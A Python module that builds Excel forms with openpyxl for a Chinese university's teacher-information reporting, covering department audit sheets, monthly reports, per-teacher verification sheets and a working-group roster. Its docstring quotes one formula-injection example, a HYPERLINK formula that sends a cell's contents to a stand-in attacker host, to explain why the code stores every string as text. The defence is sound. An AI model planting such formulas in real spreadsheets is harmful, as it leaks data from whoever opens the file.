"""Excel reports with openpyxl: the seed's headings in order, bold headers, set widths, frozen header rows.

Every cell uses a font with Chinese glyphs (宋体, which Excel and WPS map on every
Chinese Windows; LibreOffice substitutes an installed CJK font).

Every text is stored as text, never as a formula: the values come from HR's roster and the
plan, and a name such as `=HYPERLINK("http://evil.example/?x="&A1)` written as a formula would
run in the office's Excel (formula injection). openpyxl takes any string starting with `=`
for a formula; `_text` keeps it a string cell with the same visible text.
"""

from __future__ import annotations

import io
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.drawing.image import Image
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.worksheet.worksheet import Worksheet

FONT = "宋体"
THIN = Side(style="thin")
BOX = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)
HEADER_FILL = PatternFill("solid", fgColor="F0F0F0")
WRAP = Alignment(wrap_text=True, vertical="top")


def _text(cell: Cell, value: Any) -> None:
    """Put `value` in `cell`; a string always as a string cell (shown as typed, never evaluated)."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"


def _append(sheet: Worksheet, values: Sequence[Any]) -> int:
    """A row at the bottom of the sheet, every string kept as text; its row number."""
    sheet.append(list(values))
    row = sheet.max_row
    for cell in sheet[row]:
        _text(cell, cell.value)
    return row


def _title(sheet: Worksheet, form: str, title: str, width: int) -> None:
    _text(sheet["A1"], form)
    sheet["A1"].font = Font(name=FONT, size=10)
    _text(sheet["A2"], title)
    sheet["A2"].font = Font(name=FONT, size=16, bold=True)
    sheet["A2"].alignment = Alignment(horizontal="center")
    sheet.merge_cells(start_row=2, start_column=1, end_row=2, end_column=width)


def _row(sheet: Worksheet, values: Sequence[Any], header: bool = False) -> int:
    row = _append(sheet, values)
    for cell in sheet[row]:
        cell.font = Font(name=FONT, bold=header)
        cell.border = BOX
        cell.alignment = WRAP
        if header:
            cell.fill = HEADER_FILL
    return row


def _widths(sheet: Worksheet, widths: Sequence[int]) -> None:
    for n, width in enumerate(widths):
        sheet.column_dimensions[chr(ord("A") + n)].width = width


def _sheet_name(text: str, taken: set[str]) -> str:
    """Excel's rules: at most 31 characters, none of []:*?/\\, unique in the workbook."""
    base = re.sub(r"[\[\]:*?/\\]", "_", text)[:31]
    name, n = base, 2
    while name in taken:
        suffix = f"({n})"
        name, n = base[: 31 - len(suffix)] + suffix, n + 1
    taken.add(name)
    return name


def _stage_rows(sheet: Worksheet, heading: str, stage: dict[str, Any], names_label: str, day: str) -> None:
    _row(sheet, [heading, "总数", "完成数", "未完成数", "上报日期", "完成日期"], header=True)
    _row(sheet, ["", stage["total"], stage["done"], stage["missing"], day, stage["completed_on"]])
    row = _row(sheet, [names_label, stage["missing_names"] or "无", "", "", "", ""])
    sheet.merge_cells(start_row=row, start_column=2, end_row=row, end_column=6)
    sheet.row_dimensions[row].height = max(15, 15 * (len(stage["missing_names"]) // 40 + 1))


def dept_audit(context: dict[str, Any], out: Path) -> None:
    """A summary sheet (one line per department, header frozen) and one 附表6 sheet per department."""
    workbook = Workbook()
    summary = workbook.active
    summary.title = "汇总"
    _row(
        summary,
        [
            "部门名称",
            "审核人",
            "联系电话",
            "本部门教职工数",
            "完成数",
            "未完成数",
            "审核完成数",
            "审核未完成数",
            "上报日期",
        ],
        header=True,
    )
    summary.freeze_panes = "A2"
    _widths(summary, [22, 10, 14, 14, 8, 10, 12, 14, 12])
    taken = {"汇总"}
    for a in context["audits"]:
        entry, review = a["entry"], a["review"]
        _row(
            summary,
            [a["unit_name"], a["auditor"], a["phone"], entry["total"], entry["done"], entry["missing"]]
            + [review["done"], review["missing"], a["report_date"]],
        )
        sheet = workbook.create_sheet(_sheet_name(a["unit_name"], taken))
        _title(sheet, "附表6", "数据审核报表", 6)
        _row(
            sheet, ["部门名称", a["unit_name"], "审核人", a["auditor"], "联系电话", a["phone"]], header=False
        )
        _stage_rows(sheet, "本部门教职工信息录入情况", entry, "未完成教职工姓名", a["report_date"])
        _stage_rows(sheet, "本部门教职工信息审核情况", review, "未审核教职工姓名", a["report_date"])
        sheet.freeze_panes = "A4"
        _widths(sheet, [26, 16, 10, 12, 12, 14])
    workbook.save(out)


def monthly(context: dict[str, Any], chart_png: bytes | None, out: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "附表4"
    _title(sheet, "附表4", "全国教师管理信息系统部署与启用月报表（高校填报）", 5)
    _row(sheet, ["学校名称", context["institution"], "年月", context["month"], ""])
    _row(sheet, ["填表人", context["filler"], "电话", context["phone"], f"填表日期：{context['filled_on']}"])
    header = _row(sheet, ["信息采集进度", "教师数", "已完成", "未完成", "全部完成日期"], header=True)
    for label, stage in (
        ("教师信息录入完成情况", context["entry"]),
        ("教师信息审核完成情况", context["review"]),
    ):
        _row(sheet, [label, stage["total"], stage["done"], stage["missing"], stage["completed_on"]])
    sheet.freeze_panes = f"A{header + 1}"
    _widths(sheet, [24, 18, 10, 14, 20])
    if chart_png is not None:
        image = Image(io.BytesIO(chart_png))
        image.width, image.height = 720, 400
        sheet.add_image(image, f"A{sheet.max_row + 2}")
    workbook.save(out)


def teacher_sheet(context: dict[str, Any], out: Path) -> None:
    """One 附表5 sheet per teacher, named by staff ID and name."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    taken: set[str] = set()
    for t in context["sheets"]:
        sheet = workbook.create_sheet(_sheet_name(f"{t['staff_id']} {t['name']}", taken))
        _title(sheet, "附表5", "教师信息审核表", 5)
        _row(sheet, ["姓名", t["name"], "性别", t["gender"], ""])
        _row(sheet, ["出生年月", t["birth_month"], "岗位", t["post"], ""])
        _row(sheet, ["所属部门", t["department"], "联系电话", t["phone"], ""])
        header = _row(sheet, ["信息核对", "数据采集信息", "信息是否正确", "", ""], header=True)
        for label, key in (("学历信息", "education"), ("学位信息", "degree"), ("职称信息", "title")):
            _row(sheet, [label, t[key], "□正确　□错误", "", ""])
        _row(sheet, ["我保证此次数据采集所提交的所有信息真实有效。", "", "", "签字：", ""])
        _row(sheet, ["序号", "更改项目", "原始信息", "变更后信息", "变更原因"], header=True)
        for n in context["correction_rows"]:
            _row(sheet, [n, "", "", "", ""])
        _row(sheet, ["如果有需要修改的信息项请填写，信息变更请用黑色签字笔填写。", "", "", "", ""])
        _row(sheet, ["备注", f"工号 {t['staff_id']}", "", "", ""])
        sheet.freeze_panes = f"A{header}"
        _widths(sheet, [26, 22, 18, 18, 18])
    workbook.save(out)


def working_group(context: dict[str, Any], out: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "附表3"
    _title(sheet, "附表3", "全国教师管理信息系统联合工作组名单", 7)
    _append(sheet, [f"设区市(高校)（公章）：{context['institution']}"])
    _row(sheet, ["工作组成员", "姓名", "处室名称", "职务", "办公电话", "手机", "邮箱"], header=True)
    sheet.freeze_panes = "A5"
    for r in context["rows"]:
        _row(sheet, [r["role"], r["name"], r["office"], r["duty"], r["office_phone"], "", r["email"]])
    for c in (context["contact"], context["technical_contact"]):
        if c:
            _append(
                sheet,
                [
                    f"设区市(高校){c['role']}：{c['name']}",
                    f"单位：{c['office']}",
                    f"办公电话：{c['office_phone']}",
                ]
                + [f"电子邮件：{c['email']}"]
            )
    _widths(sheet, [20, 10, 16, 22, 14, 10, 30])
    workbook.save(out)
